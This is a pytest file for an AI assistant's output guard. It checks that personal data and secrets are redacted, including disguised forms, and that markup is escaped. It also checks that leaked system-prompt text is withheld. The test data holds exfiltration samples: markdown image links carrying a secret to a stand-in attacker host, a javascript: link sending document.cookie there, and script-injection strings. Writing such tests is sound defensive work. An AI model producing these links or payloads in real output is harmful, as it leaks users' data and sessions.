# ruff: noqa: RUF001  (the look-alike characters are the evasions under test)
"""The output guard (meshpilot/output-safety): redaction, exfiltration links, markup, protected text."""

from __future__ import annotations

import pytest

from rag.guards.injection import InjectionDetector
from rag.guards.pipeline import GuardPipeline

ZW = "\u200b"


@pytest.fixture(scope="module")
def guards() -> GuardPipeline:
    return GuardPipeline(
        InjectionDetector.default(),
        allowed_link_hosts=["docs.lakeshore.example"],
        allowed_email_domains=["lakeshore.io"],
    )


def _clean(guards: GuardPipeline, text: str) -> tuple[str, list[str]]:
    result = guards.sanitize_output([text])
    return result.texts[0], result.categories


@pytest.mark.parametrize(
    ("text", "gone"),
    [
        ("Reach Jane at jane.roe@gmail.com.", "jane.roe@gmail.com"),
        (f"Reach Jane at jane{ZW}.roe@gm{ZW}ail.com.", "roe@gmail.com"),  # zero-width split
        ("Call +44 20 7946 0958 after 5.", "7946 0958"),
        ("Card 4111 1111 1111 1111 on file.", "4111 1111 1111 1111"),
        ("Account DE89 3704 0044 0532 0130 00 pays.", "DE89 3704"),
        ("key AKIAIOSFODNN7EXAMPLE in the job", "AKIAIOSFODNN7EXAMPLE"),
        ("PASSWORD: Tr0ub4dor-3xyz-Lake", "Tr0ub4dor-3xyz-Lake"),
        ("postgresql://etl:s3cr3t-pw@db.internal/prod", "s3cr3t-pw"),
        ("token ghp_abcdefghijklmnopqrstuvwxyz0123456789", "ghp_abcdefghijklmnopqrstuvwxyz0123456789"),
    ],
)
def test_personal_data_and_secrets_are_redacted_even_when_disguised(
    guards: GuardPipeline, text: str, gone: str
) -> None:
    cleaned, categories = _clean(guards, text)
    assert gone not in cleaned.replace(ZW, "")
    assert {"personal_data", "secret"} & set(categories)


@pytest.mark.parametrize(
    "text",
    [
        "Status ![health](https://collect.evil-metrics.net/p.png?d=SECRET) ok",
        "Status ![health](HTTPS://COLLECT.EVIL-METRICS.NET/p.png?d=SECRET) ok",  # mixed case
        "See [the launcher](javascript:fetch('https://collect.evil-metrics.net/'+document.cookie))",
        "Open ｈｔｔｐｓ://collect.evil-metrics.net/?q=1 now",  # full-width scheme
        "Go to https://collect.evil-metrics.net/x?data=abc",
        "Preview ![x](data:text/html;base64,PHNjcmlwdD4=)",
    ],
)
def test_links_and_images_to_foreign_hosts_are_removed(guards: GuardPipeline, text: str) -> None:
    cleaned, categories = _clean(guards, text)
    assert "evil-metrics" not in cleaned.lower() and "javascript:" not in cleaned and "data:text" not in cleaned
    assert "exfiltration" in categories


def test_allowlisted_links_relative_links_and_safe_addresses_stay(guards: GuardPipeline) -> None:
    text = (
        "See [the standard](https://docs.lakeshore.example/slo) and ![chart](img/slo.png) or "
        "https://sub.docs.lakeshore.example/a, mail security@lakeshore.example or ana@lakeshore.io; "
        "refresh every 24 hours (99.5% availability, since 2025-01-01, v1.2.3)."
    )
    result = guards.sanitize_output([text])
    assert result.passed and result.texts == [text]


@pytest.mark.parametrize(
    "markup", ["<script>alert(1)</script>", "<ScRiPt>alert(1)</sCrIpT>", "<img src=x onerror=alert(1)>"]
)
def test_markup_is_escaped(guards: GuardPipeline, markup: str) -> None:
    cleaned, categories = _clean(guards, f"Answer {markup} end")
    assert "<" not in cleaned and "html" in categories


def test_text_that_repeats_protected_instructions_is_withheld(guards: GuardPipeline) -> None:
    protected = ["You answer questions for employees using only the numbered passages you are given."]
    leaked = "Sure: YOU ANSWER QUESTIONS FOR EMPLOYEES using only the numbered passages you are given."
    result = guards.sanitize_output([leaked, "a harmless quote"], protected)
    assert result.texts[0] == "" and "system_prompt_leak" in result.categories
    assert result.texts[1] == "a harmless quote"


def test_one_call_cleans_answer_and_quotes_in_order(guards: GuardPipeline) -> None:
    result = guards.sanitize_output(["ok", "mail jane.roe@gmail.com", "fine"])
    assert result.texts[0] == "ok" and result.texts[2] == "fine" and "jane" not in result.texts[1]
